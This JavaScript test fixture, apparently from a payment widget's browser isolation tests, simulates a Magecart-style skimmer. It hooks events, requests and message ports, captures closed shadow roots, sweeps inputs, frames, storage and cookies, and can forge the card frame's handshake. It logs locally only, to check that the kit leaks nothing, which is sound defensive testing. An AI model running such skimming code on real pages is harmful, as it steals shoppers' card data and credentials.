// A skimming script in the merchant page (issue 13, item 3; test/browser/isolation.spec.ts). A classic
// script, loaded before the kit (hostile-checkout.html) or added to the page after it (hostile-after.html,
// through ./load.js), doing what a Magecart-style skimmer can from the merchant's own realm: read the
// DOM and every frame it can reach, closed shadow roots included (it patches attachShadow before the kit
// runs), listen to every message, wrap every way data moves (fetch, XMLHttpRequest, MessagePort,
// MessageChannel, postMessage, addEventListener), and with `?forge` answer the card frame's `hello`
// itself with a port of its own.
// Everything it sees goes, stringified, into `window.__hostile.log` (a set: one entry per distinct text).
(function () {
  'use strict';
  var params = new URLSearchParams(location.search);
  var forge = params.has('forge');
  var seen = new Set();
  var stats = {
    installedBeforeKit: !customElements.get('svc-payment-element'),
    sweeps: 0,
    shadowRoots: 0,
    framesTried: 0,
    framesRead: 0,
    frameErrors: 0,
    messages: 0,
    portMessages: 0,
    events: 0,
    requests: 0,
    forgedConnects: 0,
    forgedReplies: 0,
  };
  var capturedRoots = [];
  var hostile = { log: [], stats: stats, forgedReplies: [] };
  window.__hostile = hostile;

  function stringify(value) {
    if (typeof value === 'string') return value;
    var stack = new WeakSet();
    try {
      return JSON.stringify(value, function (_key, item) {
        if (typeof item === 'object' && item !== null) {
          if (stack.has(item)) return '[cycle]';
          stack.add(item);
          if (typeof Node !== 'undefined' && item instanceof Node) return item.nodeName;
          if (typeof Window !== 'undefined' && item instanceof Window) return '[window]';
        }
        if (typeof item === 'function') return '[function]';
        return item;
      });
    } catch (error) {
      return String(value) + ' (' + String(error) + ')';
    }
  }
  function record(where, value) {
    var text = where + ' ' + stringify(value);
    if (!seen.has(text)) {
      seen.add(text);
      hostile.log.push(text);
    }
  }

  // Shadow roots, closed ones included: every root the kit attaches passes through here.
  var attachShadow = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    var root = attachShadow.call(this, init);
    capturedRoots.push(root);
    stats.shadowRoots += 1;
    return root;
  };

  // Every event any listener of the page receives, with what it carries.
  var wrappers = new WeakMap();
  var addEventListener = EventTarget.prototype.addEventListener;
  var removeEventListener = EventTarget.prototype.removeEventListener;
  function describeEvent(event) {
    var target = event.target;
    return {
      type: event.type,
      data: 'data' in event ? event.data : undefined,
      detail: 'detail' in event ? event.detail : undefined,
      key: event.key,
      code: event.code,
      value: target && typeof target.value === 'string' ? target.value : undefined,
      clipboard: event.clipboardData ? event.clipboardData.getData('text') : undefined,
    };
  }
  EventTarget.prototype.addEventListener = function (type, listener, options) {
    if (listener && (typeof listener === 'function' || typeof listener.handleEvent === 'function')) {
      var wrapper = wrappers.get(listener);
      if (!wrapper) {
        wrapper = function (event) {
          stats.events += 1;
          record('event:' + type, describeEvent(event));
          return typeof listener === 'function' ? listener.call(this, event) : listener.handleEvent(event);
        };
        wrappers.set(listener, wrapper);
      }
      return addEventListener.call(this, type, wrapper, options);
    }
    return addEventListener.call(this, type, listener, options);
  };
  EventTarget.prototype.removeEventListener = function (type, listener, options) {
    return removeEventListener.call(this, type, (listener && wrappers.get(listener)) || listener, options);
  };

  // Ports: whatever is posted on one, whatever its onmessage receives.
  var portPost = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (message) {
    stats.portMessages += 1;
    record('port.postMessage', message);
    return portPost.apply(this, arguments);
  };
  var onmessage = Object.getOwnPropertyDescriptor(MessagePort.prototype, 'onmessage');
  Object.defineProperty(MessagePort.prototype, 'onmessage', {
    configurable: true,
    enumerable: onmessage.enumerable,
    get: function () {
      return onmessage.get.call(this);
    },
    set: function (handler) {
      onmessage.set.call(
        this,
        typeof handler === 'function'
          ? function (event) {
              stats.portMessages += 1;
              record('port.onmessage', event.data);
              return handler.call(this, event);
            }
          : handler,
      );
    },
  });
  var OriginalChannel = window.MessageChannel;
  function tap(port, where) {
    addEventListener.call(port, 'message', function (event) {
      stats.portMessages += 1;
      record(where, event.data);
    });
  }
  window.MessageChannel = function MessageChannel() {
    var channel = new OriginalChannel();
    // Listening on port1 (the end the creator keeps) sees everything the other side sends back.
    tap(channel.port1, 'channel.port1');
    record('new MessageChannel', 'created');
    return channel;
  };
  window.MessageChannel.prototype = OriginalChannel.prototype;

  var windowPost = window.postMessage;
  window.postMessage = function (message) {
    record('window.postMessage', message);
    return windowPost.apply(this, arguments);
  };

  // Requests.
  var originalFetch = window.fetch;
  window.fetch = function (input, init) {
    stats.requests += 1;
    record('fetch', { url: String(input && input.url ? input.url : input), body: init && init.body, headers: init && init.headers });
    return originalFetch.apply(this, arguments);
  };
  var open = XMLHttpRequest.prototype.open;
  var send = XMLHttpRequest.prototype.send;
  XMLHttpRequest.prototype.open = function (method, url) {
    record('xhr.open', method + ' ' + url);
    return open.apply(this, arguments);
  };
  XMLHttpRequest.prototype.send = function (body) {
    stats.requests += 1;
    record('xhr.send', body);
    return send.apply(this, arguments);
  };

  // Every message the window receives, first (capture, added before anyone else); with `?forge`, the
  // card frame's greeting is answered here before the kit can: connect, the frame's nonce, our port.
  addEventListener.call(
    window,
    'message',
    function (event) {
      stats.messages += 1;
      record('message from ' + event.origin, event.data);
      var data = event.data;
      if (forge && data && data.type === 'hello' && typeof data.nonce === 'string' && event.source) {
        var channel = new OriginalChannel();
        addEventListener.call(channel.port1, 'message', function (reply) {
          stats.forgedReplies += 1;
          hostile.forgedReplies.push(reply.data);
          record('forged port', reply.data);
        });
        channel.port1.start();
        stats.forgedConnects += 1;
        event.source.postMessage({ protocol: data.protocol, version: data.version, type: 'connect', nonce: data.nonce }, event.origin, [
          channel.port2,
        ]);
      }
    },
    true,
  );

  // Its own listeners too, for what was listened to before it came (loaded after the kit).
  var watched = ['svc-ready', 'svc-change', 'svc-payment', 'svc-loaderror', 'svc-challenge', 'input', 'change', 'keydown', 'keyup'];
  watched = watched.concat(['keypress', 'beforeinput', 'paste', 'copy', 'cut', 'focus', 'blur', 'focusin', 'submit', 'formdata']);
  watched.forEach(function (type) {
    addEventListener.call(
      document,
      type,
      function (event) {
        stats.events += 1;
        record('event:' + type, describeEvent(event));
        if (event.formData) record('formdata', Array.from(event.formData.entries()));
      },
      true,
    );
  });

  // Reading: the document, every shadow root (open, or closed and captured), every input's value,
  // every custom element's properties, and each frame's document, window and subframes.
  function tryRead(where, read) {
    try {
      var value = read();
      if (value !== undefined && value !== null) record(where, value);
      return value;
    } catch {
      stats.frameErrors += 1;
      return undefined;
    }
  }
  function readFrame(where, win) {
    if (!win) return;
    stats.framesTried += 1;
    var doc = tryRead(where + '.document', function () {
      return win.document.documentElement.outerHTML;
    });
    if (doc !== undefined) stats.framesRead += 1;
    tryRead(where + '.location', function () {
      return win.location.href;
    });
    tryRead(where + '.name', function () {
      return win.name;
    });
    var length = tryRead(where + '.length', function () {
      return win.length;
    });
    for (var index = 0; index < (length || 0); index += 1) readFrame(where + '.frames[' + index + ']', win[index]);
  }
  function readRoot(root, where) {
    record(where + ' html', root.innerHTML === undefined ? root.documentElement.outerHTML : root.innerHTML);
    var elements = root.querySelectorAll('*');
    for (var index = 0; index < elements.length; index += 1) {
      var element = elements[index];
      if (typeof element.value === 'string' && element.value !== '') record(where + ' value', element.value);
      if (element.shadowRoot && capturedRoots.indexOf(element.shadowRoot) < 0) readRoot(element.shadowRoot, where + ' >> open');
      if (element.localName.indexOf('-') > 0) {
        var names = Object.getOwnPropertyNames(Object.getPrototypeOf(element));
        for (var n = 0; n < names.length; n += 1) {
          (function (name) {
            tryRead(where + ' <' + element.localName + '>.' + name, function () {
              var value = element[name];
              return typeof value === 'function' ? undefined : value;
            });
          })(names[n]);
        }
      }
      if (element.localName === 'iframe') {
        tryRead(where + ' iframe.src', function () {
          return element.src;
        });
        tryRead(where + ' iframe.contentDocument', function () {
          return element.contentDocument && element.contentDocument.documentElement.outerHTML;
        });
        readFrame(where + ' iframe.contentWindow', element.contentWindow);
      }
    }
  }
  function sweep() {
    stats.sweeps += 1;
    readRoot(document, 'document');
    for (var index = 0; index < capturedRoots.length; index += 1) readRoot(capturedRoots[index], 'shadow[' + index + ']');
    for (var frame = 0; frame < window.frames.length; frame += 1) readFrame('window.frames[' + frame + ']', window.frames[frame]);
    tryRead('selection', function () {
      return String(document.getSelection());
    });
    tryRead('storage', function () {
      return JSON.stringify(localStorage) + JSON.stringify(sessionStorage) + document.cookie;
    });
  }
  hostile.sweep = sweep;
  setInterval(sweep, 50);
})();
